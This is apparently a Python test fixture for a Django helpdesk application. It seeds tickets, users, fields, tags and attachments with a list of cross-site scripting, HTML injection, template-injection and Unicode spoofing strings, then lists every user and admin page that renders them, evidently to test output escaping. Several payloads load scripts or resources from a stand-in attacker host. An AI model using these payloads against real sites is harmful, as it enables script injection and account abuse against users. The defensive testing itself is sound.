"""Texts that want to run, to cover the page or to pretend, and a helpdesk full of them."""

from django.core.files.uploadedfile import SimpleUploadedFile

from helpdesk import actions
from helpdesk.actor import system
from helpdesk.models import (
    FieldOption,
    Organisation,
    Status,
    Tag,
    TagCategory,
    Team,
    Ticket,
    TicketType,
    User,
)
from tests.factories import actor_of, make_agent, make_field, make_queue, make_ticket, make_user

MARKUP = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror='alert(1)'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img srcset="x 1x, //evil.example/y 2x">',
    '<img src="//evil.example/pixel.gif">',
    '<div style="position:fixed;inset:0;z-index:9999">covered</div>',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    '<form action="/tickets/1/deletion/" method=post><button>x</button></form>',
    '<button formaction="//evil.example/">x</button>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=//evil.example/></object><embed src=//evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<template><script>alert(1)</script></template>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    '<div id="main" class="topbar" hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<input name=csrfmiddlewaretoken value=x autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    "<!--><script>alert(1)</script>-->",
    "</textarea></title></style></script><script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) ![x](//evil.example/y.png)",
    "<javascript:alert(1)>",
    "{{ 7|add:'7' }}{% debug %}${7*7}#{7*7}",
    "<textarea><title><style><xmp><plaintext>",  # never closed
]
EVERYTHING = "\n\n".join(MARKUP)
PRETENDING = (
    "\u202egnp.exe\u202c\u2066\u200b\u0430pple\ufeff"  # right to left, look-alikes, nothing
)
SHORT = '"><img src=x onerror=alert(1)>'


def line(limit: int) -> str:
    """As much of it as a name may hold."""
    return " ".join(MARKUP)[:limit]


class HostileHouse:
    """Every text that anybody can write, anywhere, is hostile."""

    def __init__(self):
        self.organisation = Organisation.objects.create(name=line(120))
        self.queue = make_queue("Hostile")
        self.queue.name, self.queue.description = line(80), EVERYTHING
        self.queue.save()
        self.agent = make_agent(line(200), [self.queue], signature=EVERYTHING)
        self.customer = make_user(PRETENDING + line(150), organisation=self.organisation)
        self.status = Status.objects.create(name=SHORT, category="open", position=99)
        self.type = TicketType.objects.create(name=SHORT)
        self.team = Team.objects.create(name=SHORT)
        self.category = TagCategory.objects.create(name=SHORT)
        self.tag = Tag.objects.create(name=SHORT, category=self.category)
        self._make_fields()
        self.tickets = [self._open(form) for form in ("plain", "markdown", "html")]
        actions.link(self.tickets[0], self.tickets[1], by=system("rule"), kind="related")

    def _make_fields(self) -> None:
        self.text = make_field("hostile_text", "text", name=line(60), help_text=line(150))
        self.area = make_field("hostile_area", "textarea", name="Area " + SHORT)
        self.choice = make_field("hostile_choice", "choice", name="Choice " + SHORT)
        self.option = FieldOption.objects.create(field=self.choice, label=SHORT, position=0)
        make_field("hostile_people", "people", name="People " + SHORT)

    def _open(self, form: str) -> Ticket:
        by = actor_of(self.agent)
        ticket = make_ticket(
            f"{form} {PRETENDING} {line(400)}",
            body=EVERYTHING,
            body_format=form,
            queue=self.queue,
            requester=self.customer,
            requester_name=line(200),
            organisation=self.organisation,
            assignee=self.agent,
            team=self.team,
            type=self.type,
            tags=[self.tag.name],
            source="hostile",
            source_ref=form + line(100),
            custom={
                "hostile_text": line(200),
                "hostile_area": EVERYTHING,
                "hostile_choice": str(self.option.uuid),
                "hostile_people": [self.customer.pk],
            },
        )
        for public in (True, False):
            verb = actions.reply if public else actions.add_note
            files = [self._file(name) for name in (SHORT + ".png", PRETENDING + ".svg")]
            verb(ticket, by=by, body=EVERYTHING, format=form, attachments=files)
        admin = system("admin", name=line(100))
        actions.change_ticket(
            ticket,
            by=admin,
            status=self.status,
            resolution="fixed",
            resolution_comment=EVERYTHING,
            custom={"hostile_text": "was " + line(100)},
        )
        return Ticket.objects.get(pk=ticket.pk)

    def _file(self, name: str):
        upload = SimpleUploadedFile("x", b"<svg onload='alert(1)'></svg>")
        return actions.keep_file(upload, by=actor_of(self.agent), name=name)

    def pages(self) -> list[str]:
        """Every page that shows any of it."""
        found = [
            "/tickets/",
            f"/tickets/?queue={self.queue.slug}&sort=title",
            f"/tickets/?tag={SHORT}",
            f"/tickets/?search={SHORT}",
            f"/tickets/?{SHORT}={SHORT}",
            f"/tickets/?sort={SHORT}",
            f"/tickets/?view={SHORT}&cursor={SHORT}",
            "/tickets/filters/",
            "/tickets/columns/",
            f"/tickets/new/?title={SHORT}&body={SHORT}&queue={self.queue.pk}&type={self.type.pk}",
            "/preferences/",
            f"/people/?q={self.agent.email}",
            f"/{SHORT}",
            f"/accounts/login/?next={SHORT}",
        ]
        for ticket in self.tickets:
            own = f"/tickets/{ticket.pk}/"
            parts = ("", "?edit=1", "?compose=note", "links/", "history/", "description/")
            found += [own + part for part in (*parts, "deletion/")]
            for comment in ticket.comments.all():
                found += [
                    f"{own}comments/{comment.uuid}/",
                    f"{own}comments/{comment.uuid}/redaction/",
                ]
            for file in ticket.attachments.all()[:1]:
                found.append(f"/attachments/{file.uuid}/removal/")
        return found

    def admin_pages(self) -> list[str]:
        rows = {
            "ticket": self.tickets[2],
            "user": User.objects.get(pk=self.customer.pk),
            "queue": self.queue,
            "organisation": self.organisation,
            "team": self.team,
            "tag": self.tag,
            "tagcategory": self.category,
            "tickettype": self.type,
            "status": self.status,
            "customfield": self.choice,
        }
        found = ["/admin/"]
        for name, row in rows.items():
            found += [f"/admin/helpdesk/{name}/", f"/admin/helpdesk/{name}/{row.pk}/change/"]
            found.append(f"/admin/helpdesk/{name}/{row.pk}/delete/")
            found.append(f"/admin/helpdesk/{name}/?q={SHORT}")
        return found
